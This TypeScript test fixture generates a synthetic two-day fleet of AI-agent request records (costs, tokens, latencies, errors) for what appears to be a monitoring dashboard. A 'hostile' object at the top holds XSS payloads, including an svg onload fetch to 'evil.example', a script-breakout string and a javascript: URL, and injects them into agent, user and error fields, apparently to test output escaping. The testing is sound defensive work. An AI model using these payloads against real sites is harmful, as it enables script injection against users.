// An invented fleet: two days of requests of a few agents, some of which misbehave, some of which carry hostile names.
// The same seed makes the same fleet, relative to the moment it is made at.

import type { RequestRow } from '../../../api/contract/rows.ts';

export const hostile = {
  agent: '"><img src=x onerror=alert(1)>',
  model: "<svg/onload=fetch('//evil.example')>",
  user: "javascript:alert('user')",
  conversation: '../..//evil.example/"onmouseover="alert(1)',
  error: "</script><script>alert('error')</script> https://evil.example/x.png",
};

interface Profile {
  readonly agent: string;
  readonly model: string;
  readonly provider: string;
  readonly per_hour: number;
  readonly cost_usd: number | null;
  readonly error_ratio: number;
  readonly duration_ms: number;
  readonly ttft_ms: number | null;
}

const profiles: readonly Profile[] = [
  {
    agent: 'support',
    model: 'gpt-4o',
    provider: 'openai',
    per_hour: 26,
    cost_usd: 0.0167,
    error_ratio: 0.021,
    duration_ms: 3_400,
    ttft_ms: 620,
  },
  {
    agent: 'refunds',
    model: 'claude-sonnet-4-5',
    provider: 'anthropic',
    per_hour: 8,
    cost_usd: 0.0455,
    error_ratio: 0.012,
    duration_ms: 9_400,
    ttft_ms: 410,
  },
  {
    agent: 'research',
    model: 'claude-opus-4-6',
    provider: 'anthropic',
    per_hour: 2,
    cost_usd: 0.183,
    error_ratio: 0.008,
    duration_ms: 41_000,
    ttft_ms: 1_300,
  },
  {
    agent: 'triage',
    model: 'gpt-4o-mini',
    provider: 'openai',
    per_hour: 11,
    cost_usd: 0.00122,
    error_ratio: 0.004,
    duration_ms: 780,
    ttft_ms: 240,
  },
  {
    agent: 'summaries',
    model: 'gemini-2.5-pro',
    provider: 'google',
    per_hour: 3,
    cost_usd: 0.0081,
    error_ratio: 0,
    duration_ms: 5_100,
    ttft_ms: null,
  },
  {
    agent: 'translator',
    model: 'our-finetune-7',
    provider: 'openai',
    per_hour: 1,
    cost_usd: null,
    error_ratio: 0.05,
    duration_ms: 1_900,
    ttft_ms: null,
  },
  {
    agent: hostile.agent,
    model: hostile.model,
    provider: 'constructor',
    per_hour: 1,
    cost_usd: 0.002,
    error_ratio: 0.3,
    duration_ms: 900,
    ttft_ms: 100,
  },
];

export type Random = () => number;

/** Park and Miller's generator: enough for invented figures. */
export function randomOf(seed: number): Random {
  let state = seed;
  return () => {
    state = (state * 16_807) % 2_147_483_647;
    return state / 2_147_483_647;
  };
}

const hour = 3_600_000;

export function makeFleet(now: number): RequestRow[] {
  const random = randomOf(7);
  const rows: RequestRow[] = [];
  for (let age = 48; age > 0; age--) {
    for (const profile of profiles) {
      const wave = 1 + 0.55 * Math.sin(((48 - age) / 24) * 2 * Math.PI);
      const burst = profile.agent === 'refunds' && age < 7 && age > 4 ? 9 : 1;
      const count = Math.round(profile.per_hour * wave * burst * (0.8 + random() * 0.4));
      for (let index = 0; index < count; index++)
        rows.push(makeRequest(profile, now - age * hour + random() * hour, random));
    }
  }
  return rows.sort((a, b) => (a.started_at < b.started_at ? 1 : -1));
}

const spread = (random: Random): number => Math.exp((random() + random() + random() - 1.5) * 1.1);
const hex = (random: Random, length: number): string =>
  Array.from({ length }, () => Math.floor(random() * 16).toString(16)).join('');

function makeRequest(profile: Profile, at: number, random: Random): RequestRow {
  const size = spread(random);
  const failed = random() < profile.error_ratio;
  const isHostile = profile.agent === hostile.agent;
  const calls = Math.max(1, Math.round(size * 2));
  const input = Math.round(4_100 * size * calls);
  const cost = profile.cost_usd === null ? null : Number((profile.cost_usd * size).toFixed(9));
  return {
    ...empty,
    trace_id: hex(random, 32),
    started_at: new Date(at).toISOString(),
    duration_ms: Math.round(profile.duration_ms * size),
    name: `invoke_agent ${profile.agent}`,
    agent_name: profile.agent,
    agent_names: [profile.agent],
    service_name: 'agents',
    environment: random() < 0.8 ? 'production' : 'staging',
    team: 'care',
    user_id: isHostile ? hostile.user : `u_${1_000 + Math.floor(random() * 400)}`,
    conversation_id: isHostile
      ? hostile.conversation
      : random() < 0.7
        ? `c_${Math.floor(random() * 60)}`
        : '',
    models: [profile.model],
    providers: [profile.provider],
    outcome: failed ? (random() < 0.3 ? 'timeout' : 'error') : random() < 0.004 ? 'cancelled' : 'ok',
    failure_class: failed ? 'external_api' : null,
    error_type: failed ? (isHostile ? hostile.error : 'RateLimitError') : '',
    error_message: failed ? (isHostile ? hostile.error : 'Too many requests, try again later') : '',
    call_count: calls,
    tool_call_count: Math.floor(size * 2),
    span_count: calls * 3 + 1,
    error_count: failed ? 1 : 0,
    unpriced_call_count: cost === null ? calls : 0,
    usage_flags: profile.ttft_ms === null ? ['cache_unknown'] : [],
    input_tokens: input,
    uncached_input_tokens: Math.round(input * 0.4),
    cache_read_tokens: Math.round(input * 0.6),
    output_tokens: Math.round(160 * size * calls),
    list_cost_usd: cost,
    wasted_cost_usd: cost === null ? null : failed ? cost : 0,
    ttft_ms: profile.ttft_ms === null ? null : Math.round(profile.ttft_ms * spread(random)),
    tpot_ms: profile.ttft_ms === null ? null : 14.2 * spread(random),
  };
}

const empty: RequestRow = {
  trace_id: '',
  started_at: '',
  duration_ms: 0,
  name: '',
  root_span_id: 'r00t',
  root_seen: true,
  agent_name: '',
  agent_names: [],
  workflow_name: '',
  service_name: '',
  environment: '',
  team: '',
  user_id: '',
  conversation_id: '',
  models: [],
  providers: [],
  outcome: 'ok',
  failure_class: null,
  error_type: '',
  error_message: '',
  span_count: 0,
  call_count: 0,
  tool_call_count: 0,
  error_count: 0,
  depth_count: 2,
  unpriced_call_count: 0,
  usage_flags: [],
  input_tokens: null,
  uncached_input_tokens: null,
  cache_read_tokens: null,
  cache_write_tokens: null,
  output_tokens: null,
  reasoning_tokens: null,
  list_cost_usd: null,
  reported_cost_usd: null,
  wasted_cost_usd: null,
  ttft_ms: null,
  tpot_ms: null,
  alignment_ratio: null,
  alignment_basis: '',
};

export const emptyRequest = empty;
